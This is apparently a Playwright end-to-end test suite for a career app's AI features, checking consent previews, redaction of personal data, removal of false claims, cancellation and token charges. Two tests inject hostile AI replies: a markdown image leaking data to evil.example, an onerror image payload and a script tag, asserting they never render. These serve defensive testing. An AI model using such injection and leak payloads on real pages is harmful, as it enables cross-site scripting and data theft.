import type { APIRequestContext, Locator, Page } from '@playwright/test'
import { startingBalance } from '#contract/tokens.ts'
import { expectSent, letterFor, readPreview, test } from './support/ai.ts'
import { agree } from './support/consent.ts'
import { reducedMotion } from './support/inspect.ts'
import { expect } from './support/journey.ts'
import { texts } from './support/payloads.ts'
import { createPerson, register } from './support/people.ts'

test.describe.configure({ mode: 'default' })

const ready = (page: Page) => page.getByRole('heading', { name: 'Your Cover Letter is Ready!' })
const underWay = (page: Page) => page.getByRole('heading', { name: 'Writing your letter' })
const consentStep = (page: Page) => page.getByRole('heading', { name: 'Privacy & Consent Required' })
const button = (page: Page, name: string | RegExp) => page.getByRole('main').getByRole('button', { name })
const drafting = (page: Page) => page.getByRole('status').filter({ hasText: 'Asking for a first draft...' })
const label = (page: Page, text: Writer) => page.getByRole('main').getByText(text, { exact: true })
type Writer = 'AI-generated' | 'Written by Wayspark · free'
const documentsOf = async (api: APIRequestContext) => (await (await api.get('/api/documents')).json()).documents

async function agreeAndGoOn(page: Page): Promise<void> {
  await agree(page)
  await button(page, 'Continue').click()
}

const baked = 'I baked bread with my grandmother every Sunday.'

async function askForLetter(page: Page): Promise<void> {
  await page.goto('/coveroptimizer?career=Baker')
  await page.getByLabel('Additional Information').fill(baked)
  await button(page, /^Generate Cover Letter/).click()
  await agreeAndGoOn(page)
}

async function openLetter(page: Page): Promise<Locator> {
  await button(page, 'View Cover Letter').click()
  const letter = page.getByRole('dialog')
  await expect(letter).toContainText(baked)
  return letter
}

async function expectHarmless(page: Page): Promise<void> {
  expect(await page.content()).not.toMatch(/evil\.example|__xss|broken=/)
  expect(await page.evaluate(() => '__xss' in window || 'broken' in window)).toBe(false)
}

test.beforeEach(({ service }) => {
  service.requests.length = 0
  service.faults.length = 0
  service.respondAfter = undefined
  service.answerWith(letterFor(/baked bread/))
})

test('the AI request matches its preview, and false statements come back as questions', async ({ open, service }) => {
  const page = await open(reducedMotion)
  const person = { ...createPerson('Tamsin'), username: 'Tamsin Okonkwo' }
  const personal = [/tamsin/i, /okonkwo/i, /555-0134/, /canary street/i, /62704/, /@example\.org/]
  const left = (tokens: number) => page.getByRole('banner').getByText(`${tokens} tokens`).first()
  const lie = 'I led a team of 12 engineers.'
  service.answerWith(letterFor(/baked bread/, sign => [{ text: lie, facts: [sign] }]))

  await test.step('the user registers', async () => {
    await page.goto('/register')
    await register(page.getByRole('main'), person)
    await page.waitForURL('**/dashboard')
    await expect(left(startingBalance)).toBeAttached()
  })

  const shown =
    await test.step('the consent step previews the request with placeholders for personal data', async () => {
      await page.goto('/coveroptimizer?career=Baker')
      await page.getByLabel('Employer (optional)').fill('Sunrise Bakery')
      await page
        .getByLabel('Additional Information')
        .fill(
          `${baked}\nI am Tamsin Okonkwo, ${person.email}, +1 (415) 555-0134, 12 Canary Street, Springfield, IL 62704.`,
        )
      await button(page, /^Generate Cover Letter/).click()
      await expect(consentStep(page)).toBeVisible()
      const { words, parts } = await readPreview(page)
      expect(words).toMatch(/This goes to .+ \(127\.0\.0\.1.*, model stand-in\), and nothing else\./)
      expect(words).toMatch(/We replace 1 name, .*1 email address.* with placeholders/)
      expect(words).toContain('Sunrise Bakery')
      expect(words).toContain(baked)
      for (const each of personal) expect(words).not.toMatch(each)
      expect(service.requests).toEqual([])
      return parts
    })

  await test.step('after consent exactly the preview is sent', async () => {
    await agreeAndGoOn(page)
    await expect(ready(page)).toBeVisible()
    expectSent(service, shown, personal)
  })

  await test.step('the letter names its author and contains no false statement', async () => {
    await expect(label(page, 'AI-generated')).toBeVisible()
    await expect(left(startingBalance - 3)).toBeAttached()
    await expect(page.getByRole('region', { name: 'Only you know this' })).toContainText(`Left out: "${lie}"`)
    const letter = await openLetter(page)
    await expect(letter).toContainText('Sunrise Bakery')
    await expect(letter).not.toContainText('engineers')
  })
})

test('active content from the AI service never reaches the page', async ({ visit, service }) => {
  const { page, spent } = await visit()
  const words =
    'I like it. ![cat](https://evil.example/leak?data=name) <img src="https://evil.example/x.png" onerror="window.__xss = 1"><script>window.__xss = 1</script>' +
    texts.join(' ')
  service.answerWith(letterFor(/baked bread/, () => [{ text: words, facts: [] }]))
  await askForLetter(page)
  await expect(ready(page)).toBeVisible()
  expect(service.requests).toHaveLength(1)
  await expect(label(page, 'Written by Wayspark · free')).toBeVisible()
  await openLetter(page)
  await expectHarmless(page)
  expect(await spent()).toBe(0)
})

test('canceling while the service is silent aborts the request; nothing is charged or stored', async ({
  visit,
  service,
}) => {
  const { page, api, spent } = await visit()
  service.faults.push('hang')
  await askForLetter(page)
  await service.waitForRequests(1)
  await expect(drafting(page)).toBeVisible()
  await button(page, 'Cancel').click()
  await expect(page.getByText("You weren't charged. What you wrote is still here.")).toBeVisible()
  await expect(page.getByLabel('Additional Information')).toHaveValue(baked)
  await expect.poll(() => service.requests.map(({ aborted: brokenOff }) => brokenOff)).toEqual([true])
  expect(await spent()).toBe(0)
  expect(await documentsOf(api)).toEqual([])
})

test('if the service fails, the built-in writer writes for free and the page says so', async ({ visit, service }) => {
  const { page, spent } = await visit()
  service.faults.push('error-500', 'error-500')
  await askForLetter(page)
  await expect(ready(page)).toBeVisible()
  await expect(label(page, 'Written by Wayspark · free')).toBeVisible()
  await expect(page.getByRole('main')).not.toContainText('nothing was sent anywhere')
  await openLetter(page)
  expect(service.requests).toHaveLength(2)
  expect(await spent()).toBe(0)
})

test('a reload finds the running generation, which completes and is charged once', { tag: '@thorough' }, async ({
  visit,
  service,
}) => {
  const { page, api, spent } = await visit()
  const { promise: answered, resolve: letGo } = Promise.withResolvers<void>()
  service.respondAfter = answered
  await askForLetter(page)
  await service.waitForRequests(1)
  await expect(underWay(page)).toBeVisible()
  await page.reload()
  await expect(underWay(page)).toBeVisible()
  await expect(drafting(page)).toBeVisible()
  await expect(page.getByRole('progressbar')).not.toHaveAttribute('aria-valuenow', '0')
  letGo()
  await expect(ready(page)).toBeVisible()
  await expect(label(page, 'AI-generated')).toBeVisible()
  expect(service.requests).toHaveLength(1)
  expect(await spent()).toBe(3)
  expect(await documentsOf(api)).toHaveLength(1)
})

test('consent withdrawn in another tab applies to the next letter', { tag: '@thorough' }, async ({
  visit,
  service,
}) => {
  const { page, spent } = await visit()
  await askForLetter(page)
  await expect(ready(page)).toBeVisible()
  await button(page, 'Generate Another').click()

  const tab = await page.context().newPage()
  await tab.goto('/settings/consent')
  await button(tab, 'Withdraw: Cover letter').click()
  await tab.getByRole('dialog').getByRole('button', { name: 'Withdraw consent' }).click()
  await expect(tab.getByText('Consent Withdrawn')).toBeVisible()

  await button(page, /^Generate Cover Letter/).click()
  await expect(consentStep(page)).toBeVisible()
  expect(service.requests).toHaveLength(1)
  expect(await spent()).toBe(3)
  await agreeAndGoOn(page)
  await expect(ready(page)).toBeVisible()
  expect(service.requests).toHaveLength(2)
  expect(await spent()).toBe(6)
})

const resume = `Tamsin Okonkwo
tamsin.okonkwo@example.org
+44 7700 900123
Leeds, UK

Work experience
Barista, The Blue Cup, Leeds, UK
Jun 2024 - present
- I was responsible for making coffee for our guests
- I was responsible for taking bookings by phone
- I was responsible for washing glasses
- Was in charge of the till in the evening

Skills
Excel, Polish`

test('a resume sent to the service excludes contact data, and its false statement is removed', async ({
  visit,
  service,
}) => {
  const { page, spent } = await visit()
  service.answerWith(({ text }) => {
    const signOf = (line: string) => new RegExp(`^(L\\d+): .*${line}`, 'm').exec(text)?.[1] ?? ''
    const change = { reason: 'stronger-verb', facts: [] }
    return {
      changes: [
        { ...change, line: signOf('making coffee'), better: 'Made coffee for our guests' },
        { ...change, line: signOf('taking bookings'), better: 'Took bookings by phone' },
        { ...change, line: signOf('washing glasses'), better: 'Washed glasses' },
        { ...change, line: signOf('the till'), better: 'Led a team of 12 engineers at the till in the evening' },
      ],
    }
  })
  await page.goto('/ai-resume')
  await page.getByLabel('Or paste your resume here').fill(resume)
  await agree(page)
  await button(page, 'Next').click()
  await button(page, 'Skip').click()
  await page.getByRole('tab', { name: 'A job ad' }).click()
  await page.getByLabel('Job title').fill('Receptionist')
  const { parts } = await readPreview(page)
  expect(service.requests).toEqual([])
  await button(page, /^Optimize my resume/).click()
  await expect(page.getByRole('heading', { name: 'Your resume for Receptionist' })).toBeVisible()
  await expect(label(page, 'AI-generated')).toBeVisible()
  await expect(page.getByRole('main')).toContainText('Made coffee for our guests')
  await expect(page.getByRole('main')).not.toContainText('engineers')
  await page.getByRole('tab', { name: 'Advice' }).click()
  await expect(page.getByRole('region', { name: 'Only you know this' })).toBeVisible()
  expectSent(service, parts, [/tamsin|okonkwo|900123|leeds/i])
  expect(await spent()).toBe(3)
})

test('interview questions from the service are plain text, labeled and charged, and contain nothing about the user', {
  tag: '@thorough',
}, async ({ visit, service }) => {
  const { page, person, matches, spent } = await visit({ quiz: true })
  const good = Array.from({ length: 10 }, (_, index) => ({
    text: `What would you do first on day ${index + 1}?`,
    kind: 'situation',
  }))
  const harmful = ['What is this? ![x](https://evil.example/x.png)', 'Why? <script>window.__xss = 1</script>']
  service.answerWith({ questions: [...harmful.map(text => ({ text, kind: 'story' })), ...good] })
  await page.goto('/interview-prep')
  await button(page, `Get questions 3 tokens for ${matches[0]}`).click()
  const questions = page.getByRole('region', { name: /^Questions for / })
  await expect(questions.getByRole('heading', { level: 3 })).toHaveCount(10)
  await expect(questions).toContainText('What would you do first on day 10?')
  await expect(label(page, 'AI-generated')).toBeVisible()
  await expectHarmless(page)
  const { username, email } = person
  for (const personal of [username, email])
    expect(JSON.stringify(service.requests.map(({ body }) => body))).not.toContain(personal)
  expect(service.requests).toHaveLength(1)
  expect(await spent()).toBe(3)
})
